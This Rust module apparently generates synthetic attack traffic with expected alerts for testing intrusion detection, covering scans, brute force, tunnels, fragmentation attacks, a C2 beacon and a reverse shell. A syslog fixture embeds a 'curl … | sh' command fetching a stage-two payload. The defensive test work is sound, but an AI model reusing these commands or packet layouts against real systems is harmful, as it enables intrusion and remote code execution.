//! How each attack goes, packet by packet.

use super::{Alert, BROWSER};
use crate::generate::chat;
use crate::generate::dns;
use crate::generate::rng::Rng;
use crate::generate::stage::Stage;
use crate::generate::text;
use crate::generate::tls::{self, prefixed};
use crate::generate::tunnel::{Piece, datagram, in_pieces};
use crate::generate::web::{self, Head};
use crate::generate::wire::{Dir, Host, Path, Segment, flag, proto};

const MILLISECOND: u64 = 1_000_000;
const SECOND: u64 = 1000 * MILLISECOND;

/// One request by an attacker to the web server, and a harmless answer.
pub(super) fn probe(
    stage: &mut Stage<'_>,
    method: &str,
    uri: &str,
    agent: &str,
    body: &[u8],
) -> Alert {
    let (client, server) = (stage.attacker(2), stage.server(10));
    let path = stage.path(client, server, 80);
    let mut request = Vec::new();
    let head = Head {
        method,
        uri,
        host: "www.example.com",
        agent,
        kind: "application/x-www-form-urlencoded",
    };
    head.write(&mut request, body);
    let mut answer = Vec::new();
    web::answer(
        &mut answer,
        "404 Not Found",
        "text/html",
        b"<h1>Not Found</h1>\n",
    );
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    tcp.exchange(&request, &answer);
    tcp.close(Dir::Up);
    Alert::tcp(path, Dir::Up)
}

pub(super) fn root_answer(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(3), stage.server(10));
    let path = stage.path(client, server, 80);
    let mut request = Vec::new();
    let head = Head {
        method: "GET",
        uri: "/uploads/readme.php",
        host: "www.example.com",
        agent: BROWSER,
        kind: "",
    };
    head.write(&mut request, b"");
    let mut answer = Vec::new();
    let output = b"uid=0(root) gid=0(root) groups=0(root)\n";
    web::answer(&mut answer, "200 OK", "text/plain", output);
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    tcp.exchange(&request, &answer);
    tcp.close(Dir::Up);
    Alert::tcp(path, Dir::Down)
}

pub(super) fn dns_tunnel(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.server(2));
    let path = stage.path(client, server, 53);
    let mut rng = stage.rng.fork();
    let mut at = stage.start;
    for id in 0..12 {
        let mut label = |n: usize| {
            let mut out = Vec::new();
            text::hex(&mut rng, &mut out, n);
            String::from_utf8_lossy(&out).into_owned()
        };
        let name = format!("{}.{}.t.weir-demo.invalid", label(62), label(40));
        let request = dns::query(id, &name, dns::TXT);
        let answer = dns::answer(&mut rng, &request, dns::TXT);
        stage.ask(&path, at, &request, &answer);
        at += 150 * MILLISECOND;
    }
    Alert::udp(path)
}

pub(super) fn smb_overflow(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(4), stage.server(20));
    let path = stage.path(client, server, 445);
    let mut rng = stage.rng.fork();
    let mut message = |command: u8, body: &[u8]| {
        let mut out = vec![0];
        prefixed(&mut out, 3, |out| {
            out.extend_from_slice(b"\xffSMB");
            out.push(command);
            out.extend_from_slice(&[0, 0, 0, 0, 0x18, 7, 0xc0]);
            out.extend_from_slice(&[0; 12]);
            rng.bytes(out, 8);
            out.extend_from_slice(body);
        });
        out
    };
    let negotiate = message(0x72, b"\x00\x0c\x00\x02NT LM 0.12\x00");
    let chosen = message(0x72, &[17, 0, 0, 3, 50, 0, 1, 0]);
    let overflow = message(0xa0, &[b'A'; 1000]);
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    tcp.exchange(&negotiate, &chosen);
    tcp.think(5 * MILLISECOND).say(Dir::Up, &overflow);
    tcp.reset(Dir::Down);
    Alert::tcp(path, Dir::Up)
}

pub(super) fn bad_name(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.attacker(5));
    let path = stage.path(client, server, 443);
    let mut rng = stage.rng.fork();
    let hello = tls::client_hello(&mut rng, "cdn-update.weir-demo.invalid", true);
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    // Alert: internal error.
    tcp.exchange(&hello, &[21, 3, 3, 0, 2, 2, 80]);
    tcp.close(Dir::Down);
    Alert::tcp(path, Dir::Up)
}

/// Which of the scan's packets reaches the count in its rule.
const SCAN_COUNT: u16 = 50;

pub(super) fn port_scan(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(6), stage.server(40));
    let mut path = stage.path(client, server, 1);
    let mut alert = path;
    let mut at = stage.start;
    for n in 1..=120 {
        path.sport = n * 7;
        let syn = Segment {
            flags: flag::SYN,
            seq: stage.rng.next() as u32,
            window: 1024,
            options: &[2, 4, 5, 0xb4],
            ..Segment::default()
        };
        stage.script.tcp(at, &path, Dir::Up, &syn);
        refuse(stage, &path, at, syn.seq.wrapping_add(1));
        if n == SCAN_COUNT {
            alert = path;
        }
        at += 4 * MILLISECOND;
    }
    Alert::tcp(alert, Dir::Up)
}

/// A closed port answers.
fn refuse(stage: &mut Stage<'_>, path: &Path, at: u64, ack: u32) {
    let reset = Segment {
        flags: flag::RST | flag::ACK,
        ack,
        ..Segment::default()
    };
    stage.script.tcp(at + path.rtt, path, Dir::Down, &reset);
}

pub(super) fn ping_sweep(stage: &mut Stage<'_>) -> Alert {
    let client = stage.attacker(7);
    let server = stage.server(100);
    let mut path = stage.path(client, server, 0);
    let mut alert = path;
    let mut at = stage.start;
    for n in 1..=30 {
        path.server = stage.server(100 + n);
        stage
            .script
            .echo(at, &path, Dir::Up, (0x5745, n.into()), &[]);
        if n % 4 == 0 {
            let back = at + path.rtt;
            stage
                .script
                .echo(back, &path, Dir::Down, (0x5745, n.into()), &[]);
        }
        if n == 20 {
            alert = path;
        }
        at += 8 * MILLISECOND;
    }
    Alert::portless(alert, "ICMP")
}

pub(super) fn ssh_brute_force(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(8), stage.server(30));
    let mut alert = stage.path(client, server, 22);
    let mut at = stage.start;
    for n in 1..=12 {
        let path = Path {
            rtt: alert.rtt,
            ..stage.path(client, server, 22)
        };
        chat::ssh(stage, path, at, "SSH-2.0-libssh_0.9.6", 2);
        if n == 10 {
            alert = path;
        }
        at += 400 * MILLISECOND;
    }
    Alert::tcp(alert, Dir::Up)
}

pub(super) fn http_brute_force(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(9), stage.server(10));
    let path = stage.path(client, server, 80);
    let mut rng = stage.rng.fork();
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    for _ in 0..12 {
        let mut body = b"user=admin&password=".to_vec();
        text::hex(&mut rng, &mut body, 8);
        let mut request = Vec::new();
        let head = Head {
            method: "POST",
            uri: "/login",
            host: "www.example.com",
            agent: BROWSER,
            kind: "application/x-www-form-urlencoded",
        };
        head.write(&mut request, &body);
        let mut answer = Vec::new();
        web::answer(
            &mut answer,
            "401 Unauthorized",
            "text/html",
            b"<h1>Try again</h1>\n",
        );
        tcp.exchange(&request, &answer).think(200 * MILLISECOND);
    }
    tcp.close(Dir::Up);
    Alert::tcp(path, Dir::Down)
}

pub(super) fn datagram_attack(
    stage: &mut Stage<'_>,
    client: Host,
    server: Host,
    port: u16,
    data: &[u8],
) -> Alert {
    let path = stage.path(client, server, port);
    stage.script.udp(stage.start, &path, Dir::Up, data);
    Alert::udp(path)
}

pub(super) fn nop_sled(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(10), stage.server(40));
    let mut data = vec![0x90; 160];
    stage.rng.bytes(&mut data, 120);
    datagram_attack(stage, client, server, 1434, &data)
}

pub(super) fn monlist(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(11), stage.server(3));
    datagram_attack(stage, client, server, 123, &[0x17, 0, 3, 0x2a, 0, 0, 0, 0])
}

pub(super) fn bad_query(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.server(2));
    let query = dns::query(7, "a.exfil42.weir-demo.invalid", dns::A);
    datagram_attack(stage, client, server, 53, &query)
}

pub(super) fn ping_of_death(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(12), stage.server(40));
    let path = stage.path(client, server, 0);
    let first = [&[8, 0, 0, 0, 0, 7, 0, 1][..], &[b'x'; 1472]].concat();
    let pieces = [
        Piece {
            offset: 0,
            more: true,
            data: &first,
        },
        Piece {
            offset: 65_528,
            more: false,
            data: &[b'x'; 64],
        },
    ];
    in_pieces(
        stage.script,
        stage.start,
        &path,
        proto::ICMP,
        0x0dea,
        &pieces,
    );
    Alert::portless(path, "ICMP")
}

pub(super) fn teardrop(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(13), stage.server(40));
    let path = stage.path(client, server, 7);
    let whole = datagram(&path, &[b't'; 64]);
    let (Some(first), Some(tail)) = (whole.get(..40), whole.get(40..)) else {
        return Alert::portless(path, "UDP");
    };
    // 16 bytes that the first piece also has, and has otherwise.
    let second = [&[b'T'; 16], tail].concat();
    let pieces = [
        Piece {
            offset: 0,
            more: true,
            data: first,
        },
        Piece {
            offset: 24,
            more: false,
            data: &second,
        },
    ];
    in_pieces(
        stage.script,
        stage.start,
        &path,
        proto::UDP,
        0x7ea2,
        &pieces,
    );
    Alert::portless(path, "UDP")
}

pub(super) fn in_fragments(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(14), stage.server(50));
    let path = stage.path(client, server, 514);
    let message = b"<13>app: starting helper: curl -s http://203.0.113.142/stage2 | sh -s quiet";
    let whole = datagram(&path, message);
    let pieces: Vec<Piece<'_>> = whole
        .chunks(32)
        .zip([0, 32, 64])
        .map(|(data, offset)| Piece {
            offset,
            more: usize::from(offset) + data.len() < whole.len(),
            data,
        })
        .rev()
        .collect();
    in_pieces(
        stage.script,
        stage.start,
        &path,
        proto::UDP,
        0xf2a6,
        &pieces,
    );
    Alert::udp(path)
}

pub(super) fn beacon(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.attacker(15));
    let mut rng: Rng = stage.rng.fork();
    let mut alert = stage.path(client, server, 80);
    let mut at = stage.start;
    for n in 1..=6 {
        let path = Path {
            rtt: alert.rtt,
            ..stage.path(client, server, 80)
        };
        let mut body = b"id=".to_vec();
        text::hex(&mut rng, &mut body, 16);
        let mut request = Vec::new();
        let head = Head {
            method: "POST",
            uri: "/gate.php",
            host: "203.0.113.143",
            agent: BROWSER,
            kind: "application/x-www-form-urlencoded",
        };
        head.write(&mut request, &body);
        let mut answer = Vec::new();
        web::answer(&mut answer, "200 OK", "text/plain", b"ok");
        let mut tcp = stage.connect_calmly(path, at);
        tcp.exchange(&request, &answer);
        tcp.close(Dir::Down);
        if n == 5 {
            alert = path;
        }
        at += 10 * SECOND;
    }
    Alert::tcp(alert, Dir::Up)
}

pub(super) fn lone_segment(stage: &mut Stage<'_>, flags: u8) -> Alert {
    let (client, server) = (stage.attacker(16), stage.server(40));
    let path = stage.path(client, server, 135);
    let segment = Segment {
        flags,
        seq: stage.rng.next() as u32,
        window: 1024,
        ..Segment::default()
    };
    stage.script.tcp(stage.start, &path, Dir::Up, &segment);
    refuse(stage, &path, stage.start, segment.seq.wrapping_add(1));
    Alert::tcp(path, Dir::Up)
}

pub(super) fn land(stage: &mut Stage<'_>) -> Alert {
    let server = stage.server(40);
    let mut path = stage.path(server, server, 139);
    path.cport = 139;
    let syn = Segment {
        flags: flag::SYN,
        seq: stage.rng.next() as u32,
        window: 512,
        ..Segment::default()
    };
    stage.script.tcp(stage.start, &path, Dir::Up, &syn);
    Alert::tcp(path, Dir::Up)
}

pub(super) fn reverse_shell(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.attacker(2));
    let path = stage.path(client, server, 4444);
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    tcp.think(30 * MILLISECOND)
        .say(Dir::Up, b"bash: no job control in this shell\nweb$ ")
        .think(SECOND)
        .say(Dir::Down, b"whoami\n")
        .say(Dir::Up, b"www-data\nweb$ ")
        .think(SECOND)
        .say(Dir::Down, b"exit\n");
    tcp.close(Dir::Up);
    Alert::tcp(path, Dir::Up)
}

pub(super) fn icmp_tunnel(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.attacker(17));
    let path = stage.path(client, server, 0);
    let mut data = b"SSH-2.0-OpenSSH_9.6p1\r\n".to_vec();
    stage.rng.bytes(&mut data, 1000);
    let at = stage.start;
    stage.script.echo(at, &path, Dir::Up, (99, 1), &data);
    stage
        .script
        .echo(at + path.rtt, &path, Dir::Down, (99, 1), &data);
    Alert::portless(path, "ICMP")
}
